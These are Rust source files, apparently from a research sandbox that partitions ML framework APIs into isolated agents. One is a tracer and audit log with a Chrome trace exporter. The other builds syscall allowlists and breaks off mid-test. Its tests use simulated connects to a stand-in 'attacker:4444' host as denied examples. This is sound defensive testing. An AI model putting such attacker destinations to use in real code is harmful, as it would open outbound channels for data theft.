        /// Virtual time.
        at_ns: u64,
        /// The partition that could not be sealed.
        partition: PartitionId,
        /// The agent pid the filter was rejected for.
        pid: Pid,
        /// The kernel error, stringified.
        error: String,
    },
    /// A snapshot restore failed (allocation or write error in the fresh
    /// agent); the object was quarantined instead of left pointing at
    /// the reaped pid.
    SnapshotLost {
        /// Virtual time.
        at_ns: u64,
        /// The partition being restored.
        partition: PartitionId,
        /// The object dropped.
        object: ObjectId,
        /// Why the restore failed, stringified.
        reason: String,
    },
    /// Pooled mode's capability gate refused a call that named another
    /// tenant's object — the cross-tenant isolation boundary of the
    /// shared-agent deployment, denied before any payload moved.
    CrossTenantDenied {
        /// Virtual time.
        at_ns: u64,
        /// The tenant whose call was refused.
        tenant: u32,
        /// The pool partition the call was bound for.
        partition: PartitionId,
        /// The foreign object the call named.
        object: ObjectId,
        /// The tenant that owns the object.
        owner: u32,
    },
}

impl AuditRecord {
    /// The `mprotect` page delta this record accounts for (0 for
    /// denial records).
    pub fn pages(&self) -> u64 {
        match self {
            AuditRecord::StateTransition { pages, .. } | AuditRecord::Reprotect { pages, .. } => {
                *pages
            }
            _ => 0,
        }
    }
}

// ----------------------------------------------------------------------
// Adaptive-controller decisions
// ----------------------------------------------------------------------

/// One knob decision taken by the adaptive policy controller at a
/// state-transition drain barrier, with the integer estimates that fed
/// it. Every decision point emits one record per partition considered —
/// `changed` distinguishes re-confirmations from actual knob moves — so
/// the trace fully explains *why* each configuration was picked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PolicyDecision {
    /// Virtual time of the decision point.
    pub at_ns: u64,
    /// The logical call whose state transition opened the barrier.
    pub seq: u64,
    /// The partition whose knobs this decision governs.
    pub partition: PartitionId,
    /// Whether the size-thresholded shm promotion rule is enabled for
    /// this partition after the decision.
    pub shm_promoted: bool,
    /// The partition's batch window after the decision (`None` =
    /// batching off, one frame per call).
    pub batch_window: Option<usize>,
    /// The partition's pipeline (in-flight) window after the decision.
    pub pipeline_window: usize,
    /// EWMA payload bytes per retired call (lazy + eager + shm).
    pub est_bytes_per_call: u64,
    /// EWMA virtual-ns gap between consecutive retirements.
    pub est_gap_ns: u64,
    /// EWMA calls per flushed batch, in 1/16ths (fixed-point ×16).
    pub est_calls_per_batch_x16: u64,
    /// Host dereferences observed since the previous decision point
    /// (global — host-fetch spans carry no partition attribution).
    pub est_host_fetches: u64,
    /// Flush-reason mix since the previous decision point:
    /// `[partition_switch, hazard, transition, window_full]`.
    pub flush_mix: [u64; 4],
    /// Whether any knob actually moved at this decision point.
    pub changed: bool,
}

// ----------------------------------------------------------------------
// The tracer
// ----------------------------------------------------------------------

/// How one logical call ended, for registry accounting.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CallOutcome {
    /// Executed to completion in the agent.
    Completed,
    /// Answered from the completion journal without re-execution.
    Replayed,
    /// The agent crashed on a memory fault or abort.
    Faulted,
    /// The agent was killed by its syscall filter.
    FilterKilled,
    /// Ordinary framework error (bad args, parse failure).
    Errored,
}

/// Per-call byte accumulation, created at hook entry and folded into
/// the registry when the call retires. Keyed by seq so multiple calls
/// can be in flight at once under pipelined execution.
#[derive(Debug, Clone, Copy, Default)]
struct PendingCall {
    bytes_lazy: u64,
    bytes_eager: u64,
    bytes_shm: u64,
    journal_hit: bool,
    filter_kill: bool,
}

/// The observability sink owned by the runtime. Disabled by default;
/// every recording method is a no-op (one branch) until
/// [`Tracer::enable`] is called.
#[derive(Debug, Default)]
pub struct Tracer {
    enabled: bool,
    events: Vec<SpanEvent>,
    marks: Vec<(u64, ThreadId, String)>,
    audit: Vec<AuditRecord>,
    /// Commit-log index range `[start, end)` each audit record covers,
    /// parallel to `audit`. `None` when the kernel flight recorder was
    /// off (or the recording site predates correlation).
    audit_commits: Vec<Option<(u64, u64)>>,
    stats: BTreeMap<(PartitionId, ApiId), ApiStats>,
    pending: BTreeMap<u64, PendingCall>,
    /// Batch flushes: `(virtual ns, thread, reason, member calls)`.
    flushes: Vec<(u64, ThreadId, FlushReason, usize)>,
    /// Adaptive-controller decisions, in decision-point order.
    decisions: Vec<PolicyDecision>,
}

impl Tracer {
    /// A disabled tracer (the runtime default).
    pub fn new() -> Tracer {
        Tracer::default()
    }

    /// Turns recording on.
    pub fn enable(&mut self) {
        self.enabled = true;
    }

    /// Whether recording is on.
    pub fn enabled(&self) -> bool {
        self.enabled
    }

    /// Recorded spans, in emission order.
    pub fn events(&self) -> &[SpanEvent] {
        &self.events
    }

    /// Driver marks: `(virtual ns, thread, label)` instants.
    pub fn marks(&self) -> &[(u64, ThreadId, String)] {
        &self.marks
    }

    /// The security audit log, in event order.
    pub fn audit_log(&self) -> &[AuditRecord] {
        &self.audit
    }

    /// Audit records from index `idx` on — incremental consumption for
    /// pollers (each poll resumes at the previous `audit_log().len()`,
    /// so a consumer sees every record exactly once).
    pub fn audit_since(&self, idx: usize) -> &[AuditRecord] {
        &self.audit[idx.min(self.audit.len())..]
    }

    /// Spans from index `idx` on — the incremental counterpart of
    /// [`Tracer::events`].
    pub fn events_since(&self, idx: usize) -> &[SpanEvent] {
        &self.events[idx.min(self.events.len())..]
    }

    /// The commit-log index range `[start, end)` audit record `i`
    /// covers, when the kernel flight recorder was on at recording time.
    /// Joining an audit record to its commit slice is what lets the
    /// forensic reporter walk from a runtime-level event (a denied
    /// restart, a filter kill) into the exact kernel transitions that
    /// produced it.
    pub fn audit_commit_range(&self, i: usize) -> Option<(u64, u64)> {
        self.audit_commits.get(i).copied().flatten()
    }

    /// Batch flushes recorded so far: `(virtual ns, thread, reason,
    /// member calls)` per flushed frame.
    pub fn batch_flushes(&self) -> &[(u64, ThreadId, FlushReason, usize)] {
        &self.flushes
    }

    /// Records one batch flush (no-op when disabled).
    pub fn note_batch_flush(
        &mut self,
        at_ns: u64,
        thread: ThreadId,
        reason: FlushReason,
        calls: usize,
    ) {
        if self.enabled {
            self.flushes.push((at_ns, thread, reason, calls));
        }
    }

    /// Adaptive-controller decisions recorded so far, in decision-point
    /// order.
    pub fn policy_decisions(&self) -> &[PolicyDecision] {
        &self.decisions
    }

    /// Records one adaptive-controller decision (no-op when disabled —
    /// though the runtime force-enables tracing whenever the controller
    /// is on, since the controller reads its estimates from here).
    pub fn record_decision(&mut self, decision: PolicyDecision) {
        if self.enabled {
            self.decisions.push(decision);
        }
    }

    /// The per-`(partition, API)` metrics registry.
    pub fn stats(&self) -> &BTreeMap<(PartitionId, ApiId), ApiStats> {
        &self.stats
    }

    /// Per-partition rollup of the registry.
    pub fn partition_rollup(&self) -> BTreeMap<PartitionId, ApiStats> {
        let mut out: BTreeMap<PartitionId, ApiStats> = BTreeMap::new();
        for ((p, _), s) in &self.stats {
            out.entry(*p).or_default().merge(s);
        }
        out
    }

    /// Sums every leaf span into the four-component decomposition.
    pub fn bucket_totals(&self) -> BucketTotals {
        let mut t = BucketTotals::default();
        for e in &self.events {
            let d = e.duration_ns();
            match e.phase.bucket() {
                Some(Bucket::Marshal) => t.marshal_ns += d,
                Some(Bucket::Copy) => t.copy_ns += d,
                Some(Bucket::Mprotect) => t.mprotect_ns += d,
                Some(Bucket::Compute) => t.compute_ns += d,
                Some(Bucket::Other) => t.other_ns += d,
                None => {}
            }
        }
        t
    }

    /// Records a span (no-op when disabled).
    pub fn span(&mut self, event: SpanEvent) {
        if self.enabled {
            self.events.push(event);
        }
    }

    /// Records a driver mark at the given virtual time.
    pub fn mark(&mut self, at_ns: u64, thread: ThreadId, label: &str) {
        if self.enabled {
            self.marks.push((at_ns, thread, label.to_owned()));
        }
    }

    /// Appends an audit record with no commit-log correlation.
    pub fn record_audit(&mut self, record: AuditRecord) {
        self.record_audit_with_commits(record, None);
    }

    /// Appends an audit record correlated to the commit-log index range
    /// `[start, end)` of the kernel transitions it covers.
    pub fn record_audit_with_commits(&mut self, record: AuditRecord, commits: Option<(u64, u64)>) {
        if self.enabled {
            self.audit.push(record);
            self.audit_commits.push(commits.filter(|(s, e)| e > s));
        }
    }

    /// Opens per-call byte accumulation for `seq` (hook entry).
    pub fn begin_call(&mut self, seq: u64) {
        if self.enabled {
            self.pending.insert(seq, PendingCall::default());
        }
    }

    /// Attributes lazily-moved payload bytes to call `seq`.
    pub fn add_lazy_bytes(&mut self, seq: u64, bytes: u64) {
        if self.enabled {
            self.pending.entry(seq).or_default().bytes_lazy += bytes;
        }
    }

    /// Attributes eagerly-moved payload bytes to call `seq`.
    pub fn add_eager_bytes(&mut self, seq: u64, bytes: u64) {
        if self.enabled {
            self.pending.entry(seq).or_default().bytes_eager += bytes;
        }
    }

    /// Attributes zero-copy shm-delivered payload bytes to call `seq`
    /// (the mapped segment length — nothing was copied).
    pub fn add_shm_bytes(&mut self, seq: u64, bytes: u64) {
        if self.enabled {
            self.pending.entry(seq).or_default().bytes_shm += bytes;
        }
    }

    /// Flags call `seq` as answered from the journal.
    pub fn note_journal_hit(&mut self, seq: u64) {
        if self.enabled {
            self.pending.entry(seq).or_default().journal_hit = true;
        }
    }

    /// Flags call `seq` as ended by a syscall-filter kill (refines a
    /// [`CallOutcome::Faulted`] at fold time).
    pub fn note_filter_kill(&mut self, seq: u64) {
        if self.enabled {
            self.pending.entry(seq).or_default().filter_kill = true;
        }
    }

    /// Folds the finished call `seq` into the registry.
    pub fn finish_call(
        &mut self,
        seq: u64,
        partition: PartitionId,
        api: ApiId,
        duration_ns: u64,
        outcome: CallOutcome,
    ) {
        if !self.enabled {
            return;
        }
        let pending = self.pending.remove(&seq).unwrap_or_default();
        let cell = self.stats.entry((partition, api)).or_default();
        cell.bytes_lazy += pending.bytes_lazy;
        cell.bytes_eager += pending.bytes_eager;
        cell.bytes_shm += pending.bytes_shm;
        if pending.journal_hit {
            cell.journal_hits += 1;
        }
        let outcome = if pending.filter_kill && outcome == CallOutcome::Faulted {
            CallOutcome::FilterKilled
        } else {
            outcome
        };
        match outcome {
            CallOutcome::Completed | CallOutcome::Replayed => {
                cell.calls += 1;
                cell.latency.record(duration_ns);
            }
            CallOutcome::Faulted => cell.faults += 1,
            CallOutcome::FilterKilled => cell.filter_kills += 1,
            CallOutcome::Errored => {}
        }
    }

    // ------------------------------------------------------------------
    // Chrome trace_event export
    // ------------------------------------------------------------------

    /// Serializes spans, marks, and partition names as a Chrome
    /// `trace_event` JSON **array** (the `traceEvents` value). `pids`
    /// maps each partition to a display pid and name; host activity
    /// (spans with no partition) lands on pid 0.
    pub fn chrome_trace_events(
        &self,
        reg: &ApiRegistry,
        partitions: &[(PartitionId, String)],
    ) -> String {
        let mut out = String::from("[\n");
        let mut first = true;
        let push = |s: String, out: &mut String, first: &mut bool| {
            if !*first {
                out.push_str(",\n");
            }
            *first = false;
            out.push_str("  ");
            out.push_str(&s);
        };
        // Process-name metadata: host plus every partition.
        push(
            "{\"ph\":\"M\",\"name\":\"process_name\",\"pid\":0,\"tid\":0,\"args\":{\"name\":\"host\"}}".to_owned(),
            &mut out,
            &mut first,
        );
        let mut pid_of: BTreeMap<PartitionId, u64> = BTreeMap::new();
        for (p, name) in partitions {
            let pid = u64::from(p.0) + 1;
            pid_of.insert(*p, pid);
            push(
                format!(
                    "{{\"ph\":\"M\",\"name\":\"process_name\",\"pid\":{pid},\"tid\":0,\"args\":{{\"name\":\"{}\"}}}}",
                    json_escape(name)
                ),
                &mut out,
                &mut first,
            );
        }
        // Thread-name metadata: one row per (process, application
        // thread) pair that actually emitted events, so per-thread
        // agent sets render as distinct Perfetto rows.
        let mut tids: std::collections::BTreeSet<(u64, u32)> = std::collections::BTreeSet::new();
        for e in &self.events {
            let pid = e
                .partition
                .and_then(|p| pid_of.get(&p).copied())
                .unwrap_or(0);
            tids.insert((pid, e.thread.0));
        }
        for (_, thread, _) in &self.marks {
            tids.insert((0, thread.0));
        }
        for (pid, tid) in &tids {
            push(
                format!(
                    "{{\"ph\":\"M\",\"name\":\"thread_name\",\"pid\":{pid},\"tid\":{tid},\"args\":{{\"name\":\"thread{tid}\"}}}}"
                ),
                &mut out,
                &mut first,
            );
        }
        for e in &self.events {
            let pid = e
                .partition
                .and_then(|p| pid_of.get(&p).copied())
                .unwrap_or(0);
            let name = match (e.phase, e.api) {
                (SpanPhase::Call, Some(api)) => reg.spec(api).name.to_owned(),
                (phase, _) => phase.name().to_owned(),
            };
            let api_name = e
                .api
                .map(|a| reg.spec(a).name.to_owned())
                .unwrap_or_default();
            // Batch spans carry the member-call count, not a byte size.
            let tail = if e.phase == SpanPhase::Batch {
                format!("\"calls\":{}", e.bytes)
            } else {
                format!("\"bytes\":{}", e.bytes)
            };
            push(
                format!(
                    "{{\"ph\":\"X\",\"name\":\"{}\",\"cat\":\"{}\",\"pid\":{pid},\"tid\":{},\"ts\":{:.3},\"dur\":{:.3},\"args\":{{\"seq\":{},\"api\":\"{}\",{tail}}}}}",
                    json_escape(&name),
                    e.phase.name(),
                    e.thread.0,
                    e.start_ns as f64 / 1e3,
                    e.duration_ns() as f64 / 1e3,
                    e.seq,
                    json_escape(&api_name),
                ),
                &mut out,
                &mut first,
            );
        }
        for (at_ns, thread, label) in &self.marks {
            push(
                format!(
                    "{{\"ph\":\"i\",\"name\":\"{}\",\"cat\":\"mark\",\"pid\":0,\"tid\":{},\"ts\":{:.3},\"s\":\"t\"}}",
                    json_escape(label),
                    thread.0,
                    *at_ns as f64 / 1e3
                ),
                &mut out,
                &mut first,
            );
        }
        // Batch flushes as per-thread instant events: why each frame
        // went out and how many calls it amortized.
        for (at_ns, thread, reason, calls) in &self.flushes {
            push(
                format!(
                    "{{\"ph\":\"i\",\"name\":\"flush:{} ({calls} calls)\",\"cat\":\"batch\",\"pid\":0,\"tid\":{},\"ts\":{:.3},\"s\":\"t\"}}",
                    reason.name(),
                    thread.0,
                    *at_ns as f64 / 1e3
                ),
                &mut out,
                &mut first,
            );
        }
        // Adaptive-controller decisions as instant events on the
        // governed partition's process row, carrying the knob outcome
        // and every input estimate — the trace fully explains each
        // configuration move.
        for d in &self.decisions {
            let pid = pid_of.get(&d.partition).copied().unwrap_or(0);
            let window = match d.batch_window {
                Some(w) => w.to_string(),
                None => "off".to_owned(),
            };
            let shm = if d.shm_promoted { "on" } else { "off" };
            let verb = if d.changed { "decide" } else { "hold" };
            push(
                format!(
                    "{{\"ph\":\"i\",\"name\":\"policy:{verb} shm={shm} batch={window} pipeline={}\",\
                     \"cat\":\"policy\",\"pid\":{pid},\"tid\":0,\"ts\":{:.3},\"s\":\"p\",\
                     \"args\":{{\"seq\":{},\"bytes_per_call\":{},\"gap_ns\":{},\
                     \"calls_per_batch_x16\":{},\"host_fetches\":{},\
                     \"flush_mix\":[{},{},{},{}]}}}}",
                    d.pipeline_window,
                    d.at_ns as f64 / 1e3,
                    d.seq,
                    d.est_bytes_per_call,
                    d.est_gap_ns,
                    d.est_calls_per_batch_x16,
                    d.est_host_fetches,
                    d.flush_mix[0],
                    d.flush_mix[1],
                    d.flush_mix[2],
                    d.flush_mix[3],
                ),
                &mut out,
                &mut first,
            );
        }
        // Shared-memory grant lifecycle and supervisor actions as global
        // instant events, so the temporal-permission sweeps and the
        // crash-storm responses (denied restarts, failed seals, lost
        // snapshots) line up visually with transitions.
        for rec in &self.audit {
            let (name, cat, at_ns) = match rec {
                AuditRecord::ShmGrant {
                    at_ns,
                    object,
                    segment,
                    pid,
                    ..
                } => (
                    format!("shm_grant {segment} {object} -> pid{pid}"),
                    "shm",
                    *at_ns,
                ),
                AuditRecord::ShmRevoke {
                    at_ns,
                    object,
                    segment,
                    pid,
                    ..
                } => (
                    format!("shm_revoke {segment} {object} -x pid{pid}"),
                    "shm",
                    *at_ns,
                ),
                AuditRecord::RestartDenied {
                    at_ns,
                    partition,
                    restarts,
                    burst,
                } => (
                    format!("restart_denied {partition} after {restarts} restarts (burst {burst})"),
                    "supervisor",
                    *at_ns,
                ),
                AuditRecord::SealFailed {
                    at_ns,
                    partition,
                    pid,
                    ..
                } => (
                    format!("seal_failed {partition} pid{pid}"),
                    "supervisor",
                    *at_ns,
                ),
                AuditRecord::SnapshotLost {
                    at_ns,
                    partition,
                    object,
                    ..
                } => (
                    format!("snapshot_lost {partition} {object}"),
                    "supervisor",
                    *at_ns,
                ),
                AuditRecord::CrossTenantDenied {
                    at_ns,
                    tenant,
                    partition,
                    object,
                    owner,
                } => (
                    format!(
                        "cross_tenant_denied t{tenant} -> {object} (owner t{owner}) on {partition}"
                    ),
                    "tenant",
                    *at_ns,
                ),
                _ => continue,
            };
            push(
                format!(
                    "{{\"ph\":\"i\",\"name\":\"{}\",\"cat\":\"{cat}\",\"pid\":0,\"tid\":0,\"ts\":{:.3},\"s\":\"g\"}}",
                    json_escape(&name),
                    at_ns as f64 / 1e3
                ),
                &mut out,
                &mut first,
            );
        }
        out.push_str("\n]");
        out
    }
}

/// Escapes a string for embedding in a JSON literal.
pub fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn log2_buckets_partition_the_range() {
        assert_eq!(Log2Histogram::bucket_of(0), 0);
        assert_eq!(Log2Histogram::bucket_of(1), 1);
        assert_eq!(Log2Histogram::bucket_of(2), 2);
        assert_eq!(Log2Histogram::bucket_of(3), 2);
        assert_eq!(Log2Histogram::bucket_of(4), 3);
        assert_eq!(Log2Histogram::bucket_of(1023), 10);
        assert_eq!(Log2Histogram::bucket_of(1024), 11);
        assert_eq!(Log2Histogram::bucket_of(u64::MAX), HIST_BUCKETS - 1);
    }

    #[test]
    fn histogram_tracks_count_sum_mean_quantile() {
        let mut h = Log2Histogram::new();
        for v in [100, 200, 400, 800] {
            h.record(v);
        }
        assert_eq!(h.count(), 4);
        assert_eq!(h.sum(), 1500);
        assert_eq!(h.mean(), 375.0);
        assert_eq!(h.max(), 800);
        // Median falls in the bucket holding 200 ([128, 256)).
        assert_eq!(h.quantile(0.5), 256);
        assert_eq!(h.quantile(1.0), 800);
        let mut other = Log2Histogram::new();
        other.record(800);
        h.merge(&other);
        assert_eq!(h.count(), 5);
        assert_eq!(h.sum(), 2300);
    }

    #[test]
    fn quantile_of_empty_histogram_is_zero() {
        let h = Log2Histogram::new();
        for q in [-1.0, 0.0, 0.5, 1.0, 2.0, f64::NAN] {
            assert_eq!(h.quantile(q), 0);
        }
    }

    #[test]
    fn quantile_zero_returns_the_minimum_observation() {
        let mut h = Log2Histogram::new();
        for v in [100, 200, 400, 800] {
            h.record(v);
        }
        assert_eq!(h.min(), 100);
        assert_eq!(h.quantile(0.0), 100);
        assert_eq!(h.quantile(-0.5), 100, "q below range clamps to min");
        // A single observation answers every quantile with itself.
        let mut one = Log2Histogram::new();
        one.record(37);
        assert_eq!(one.quantile(0.0), 37);
        assert_eq!(one.quantile(0.5), 37);
        assert_eq!(one.quantile(1.0), 37);
    }

    #[test]
    fn quantile_one_returns_the_maximum_observation() {
        let mut h = Log2Histogram::new();
        for v in [100, 200, 400, 800] {
            h.record(v);
        }
        assert_eq!(h.quantile(1.0), 800);
        assert_eq!(h.quantile(7.0), 800, "q above range clamps to max");
        assert_eq!(h.quantile(f64::NAN), 800, "NaN is not a loop fall-through");
        // Merging keeps the min/max bounds coherent for the edges.
        let mut other = Log2Histogram::new();
        other.record(50);
        h.merge(&other);
        assert_eq!(h.quantile(0.0), 50);
        assert_eq!(h.quantile(1.0), 800);
    }

    #[test]
    fn incremental_accessors_resume_where_the_consumer_left_off() {
        let mut t = Tracer::new();
        t.enable();
        let span = |seq| SpanEvent {
            phase: SpanPhase::Execute,
            seq,
            api: None,
            partition: None,
            thread: ThreadId::MAIN,
            start_ns: 0,
            end_ns: 1,
            bytes: 0,
        };
        t.span(span(1));
        let mut cursor = 0;
        let first: Vec<u64> = t.events_since(cursor).iter().map(|e| e.seq).collect();
        cursor = t.events().len();
        t.span(span(2));
        t.span(span(3));
        let second: Vec<u64> = t.events_since(cursor).iter().map(|e| e.seq).collect();
        cursor = t.events().len();
        assert_eq!(first, vec![1]);
        assert_eq!(second, vec![2, 3]);
        assert!(
            t.events_since(cursor).is_empty(),
            "nothing new, nothing seen"
        );
        assert!(t.events_since(9999).is_empty(), "out-of-range is empty");

        t.record_audit(AuditRecord::Reprotect {
            at_ns: 5,
            object: ObjectId(1),
            pages: 2,
        });
        assert_eq!(t.audit_since(0).len(), 1);
        assert!(t.audit_since(1).is_empty());
    }

    #[test]
    fn audit_commit_ranges_join_records_to_the_flight_recorder() {
        let mut t = Tracer::new();
        t.enable();
        let rec = || AuditRecord::Reprotect {
            at_ns: 0,
            object: ObjectId(1),
            pages: 1,
        };
        t.record_audit(rec());
        t.record_audit_with_commits(rec(), Some((10, 14)));
        t.record_audit_with_commits(rec(), Some((14, 14))); // empty range
        assert_eq!(t.audit_commit_range(0), None);
        assert_eq!(t.audit_commit_range(1), Some((10, 14)));
        assert_eq!(t.audit_commit_range(2), None, "empty ranges are dropped");
        assert_eq!(t.audit_commit_range(99), None, "out of range is None");
    }

    #[test]
    fn disabled_tracer_records_nothing() {
        let mut t = Tracer::new();
        t.span(SpanEvent {
            phase: SpanPhase::Execute,
            seq: 1,
            api: Some(ApiId(0)),
            partition: Some(PartitionId(0)),
            thread: ThreadId::MAIN,
            start_ns: 0,
            end_ns: 10,
            bytes: 0,
        });
        t.mark(5, ThreadId::MAIN, "x");
        t.begin_call(1);
        t.add_lazy_bytes(1, 100);
        t.finish_call(1, PartitionId(0), ApiId(0), 10, CallOutcome::Completed);
        assert!(t.events().is_empty());
        assert!(t.marks().is_empty());
        assert!(t.stats().is_empty());
    }

    #[test]
    fn finish_call_folds_pending_bytes_and_outcomes() {
        let mut t = Tracer::new();
        t.enable();
        t.begin_call(1);
        t.add_lazy_bytes(1, 1000);
        t.add_eager_bytes(1, 20);
        t.finish_call(1, PartitionId(1), ApiId(3), 5_000, CallOutcome::Completed);
        t.begin_call(2);
        t.note_journal_hit(2);
        t.finish_call(2, PartitionId(1), ApiId(3), 100, CallOutcome::Replayed);
        t.begin_call(3);
        t.finish_call(3, PartitionId(1), ApiId(3), 0, CallOutcome::Faulted);
        let s = &t.stats()[&(PartitionId(1), ApiId(3))];
        assert_eq!(s.calls, 2);
        assert_eq!(s.bytes_lazy, 1000);
        assert_eq!(s.bytes_eager, 20);
        assert_eq!(s.journal_hits, 1);
        assert_eq!(s.faults, 1);
        assert_eq!(s.latency.count(), 2);
        let roll = t.partition_rollup();
        assert_eq!(roll[&PartitionId(1)].calls, 2);
    }

    #[test]
    fn interleaved_in_flight_calls_accumulate_independently() {
        let mut t = Tracer::new();
        t.enable();
        // Two calls in flight at once: byte attribution must not bleed
        // across seqs, and retire order need not match submit order.
        t.begin_call(1);
        t.begin_call(2);
        t.add_lazy_bytes(1, 111);
        t.add_eager_bytes(2, 222);
        t.finish_call(2, PartitionId(0), ApiId(1), 10, CallOutcome::Completed);
        t.finish_call(1, PartitionId(0), ApiId(0), 20, CallOutcome::Completed);
        assert_eq!(t.stats()[&(PartitionId(0), ApiId(0))].bytes_lazy, 111);
        assert_eq!(t.stats()[&(PartitionId(0), ApiId(0))].bytes_eager, 0);
        assert_eq!(t.stats()[&(PartitionId(0), ApiId(1))].bytes_eager, 222);
        assert_eq!(t.stats()[&(PartitionId(0), ApiId(1))].bytes_lazy, 0);
    }

    #[test]
    fn bucket_totals_sum_leaf_spans_only() {
        let mut t = Tracer::new();
        t.enable();
        let mk = |phase, start, end| SpanEvent {
            phase,
            seq: 1,
            api: None,
            partition: None,
            thread: ThreadId::MAIN,
            start_ns: start,
            end_ns: end,
            bytes: 0,
        };
        t.span(mk(SpanPhase::Call, 0, 100)); // parent: excluded
        t.span(mk(SpanPhase::Marshal, 0, 10));
        t.span(mk(SpanPhase::DataCopy, 10, 40));
        t.span(mk(SpanPhase::Transition, 40, 45));
        t.span(mk(SpanPhase::Execute, 45, 95));
        let b = t.bucket_totals();
        assert_eq!(b.marshal_ns, 10);
        assert_eq!(b.copy_ns, 30);
        assert_eq!(b.mprotect_ns, 5);
        assert_eq!(b.compute_ns, 50);
        assert_eq!(b.traced_ns(), 95);
    }

    #[test]
    fn json_escape_handles_specials() {
        assert_eq!(json_escape("a\"b\\c\nd"), "a\\\"b\\\\c\\nd");
        assert_eq!(json_escape("\u{1}"), "\\u0001");
    }
}
