//! Building per-agent syscall allowlists (paper §4.4.1, Fig. 12).
//!
//! An agent's filter is the **union** of the hybrid-analysis syscall
//! profiles of every API assigned to it, plus the small base set the
//! runtime itself needs (futex/shm for the IPC rings, exit). Devices
//! and sockets get fd-argument rules bound to the descriptors that exist
//! at seal time (the paper's "first execution unrestricted, then
//! restrict" design), and `connect`/`sendto` get destination-prefix
//! rules so a visualizing agent can only talk to the GUI subsystem and a
//! downloader only to HTTP origins.

use freepart_analysis::SyscallProfile;
use freepart_frameworks::api::{ApiId, ApiKind, ApiRegistry};
use freepart_simos::{DeviceKind, FdRule, SimProcess, SyscallFilter, SyscallNo};
use std::collections::BTreeSet;

/// Syscalls every agent needs regardless of its APIs: the runtime's own
/// IPC (shared-memory rings + futex) and orderly exit.
pub fn runtime_base() -> BTreeSet<SyscallNo> {
    [
        SyscallNo::Futex,
        SyscallNo::ShmOpen,
        SyscallNo::Exit,
        SyscallNo::SchedYield,
        SyscallNo::Brk,
    ]
    .into_iter()
    .collect()
}

/// Builds the sealed filter for one agent.
///
/// * `apis` — the APIs assigned to (or observed in) this agent.
/// * `process` — the agent process *after* its first-execution phase,
///   so device/GUI descriptors already exist and can be designated.
pub fn build_filter(
    reg: &ApiRegistry,
    profile: &SyscallProfile,
    apis: &BTreeSet<ApiId>,
    process: &SimProcess,
) -> SyscallFilter {
    let mut allowed = runtime_base();
    allowed.extend(profile.union_of(apis.iter().copied()));
    let mut filter = SyscallFilter::allowing(allowed.iter().copied());

    // ioctl / select / poll: designated device descriptors only.
    let mut device_fds: Vec<_> = process.fds_of_device(DeviceKind::Camera);
    device_fds.extend(process.fds_of_device(DeviceKind::Event));
    if allowed.contains(&SyscallNo::Ioctl) {
        filter.set_fd_rule(SyscallNo::Ioctl, FdRule::only(device_fds.iter().copied()));
    }

    // connect / sendto: destination prefixes derived from the agent's
    // API kinds — GUI traffic for visualizers, HTTP for downloaders.
    let mut prefixes: Vec<&str> = Vec::new();
    for id in apis {
        match reg.spec(*id).kind {
            ApiKind::ImShow | ApiKind::PlotShow | ApiKind::Window(_) | ApiKind::GuiStateRead => {
                prefixes.push("gui")
            }
            ApiKind::DownloadViaFile => prefixes.push("http"),
            _ => {}
        }
    }
    if allowed.contains(&SyscallNo::Connect) {
        let mut rule = FdRule::default();
        for p in &prefixes {
            rule = rule.with_dest_prefix(p);
        }
        filter.set_fd_rule(SyscallNo::Connect, rule.clone());
        if allowed.contains(&SyscallNo::Sendto) {
            filter.set_fd_rule(SyscallNo::Sendto, rule);
        }
    }
    filter
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_analysis::TestCorpus;
    use freepart_frameworks::registry::standard_registry;
    use freepart_simos::{FilterDecision, Kernel, Syscall};

    fn profile(reg: &ApiRegistry) -> SyscallProfile {
        SyscallProfile::build(reg, &TestCorpus::full(reg))
    }

    #[test]
    fn loading_agent_filter_blocks_send_and_mprotect() {
        let reg = standard_registry();
        let prof = profile(&reg);
        let apis: BTreeSet<ApiId> = [
            reg.id_of("cv2.imread").unwrap(),
            reg.id_of("cv2.VideoCapture").unwrap(),
            reg.id_of("cv2.VideoCapture.read").unwrap(),
        ]
        .into_iter()
        .collect();
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("loading-agent");
        let filter = build_filter(&reg, &prof, &apis, kernel.process(pid).unwrap());
        assert!(filter.allows_number(SyscallNo::Openat));
        assert!(filter.allows_number(SyscallNo::Ioctl));
        assert!(!filter.allows_number(SyscallNo::Send));
        assert!(!filter.allows_number(SyscallNo::Connect));
        assert!(!filter.allows_number(SyscallNo::Mprotect));
        assert!(!filter.allows_number(SyscallNo::Fork));
    }

    #[test]
    fn visualizing_agent_connect_is_gui_only() {
        let reg = standard_registry();
        let prof = profile(&reg);
        let apis: BTreeSet<ApiId> = [
            reg.id_of("cv2.imshow").unwrap(),
            reg.id_of("cv2.pollKey").unwrap(),
        ]
        .into_iter()
        .collect();
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("viz-agent");
        let filter = build_filter(&reg, &prof, &apis, kernel.process(pid).unwrap());
        let gui = Syscall::Connect {
            fd: freepart_simos::Fd(3),
            dest: "gui:display".into(),
        };
        let evil = Syscall::Connect {
            fd: freepart_simos::Fd(3),
            dest: "attacker:4444".into(),
        };
        assert_eq!(filter.evaluate(&gui), FilterDecision::Allow);
        assert_eq!(filter.evaluate(&evil), FilterDecision::Kill);
    }

    #[test]
    fn downloader_agent_connects_to_http_only() {
        let reg = standard_registry();
        let prof = profile(&reg);
        let apis: BTreeSet<ApiId> = [reg.id_of("tf.keras.utils.get_file").unwrap()]
            .into_iter()
            .collect();
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("dl-agent");
        let filter = build_filter(&reg, &prof, &apis, kernel.process(pid).unwrap());
        let http = Syscall::Connect {
            fd: freepart_simos::Fd(3),
            dest: "http://weights.example".into(),
        };
        let evil = Syscall::Connect {
            fd: freepart_simos::Fd(3),
            dest: "attacker:4444".into(),
        };
        assert_eq!(filter.evaluate(&http), FilterDecision::Allow);
        assert_eq!(filter.evaluate(&evil), FilterDecision::Kill);
    }

    #[test]
    fn base_set_always_present() {
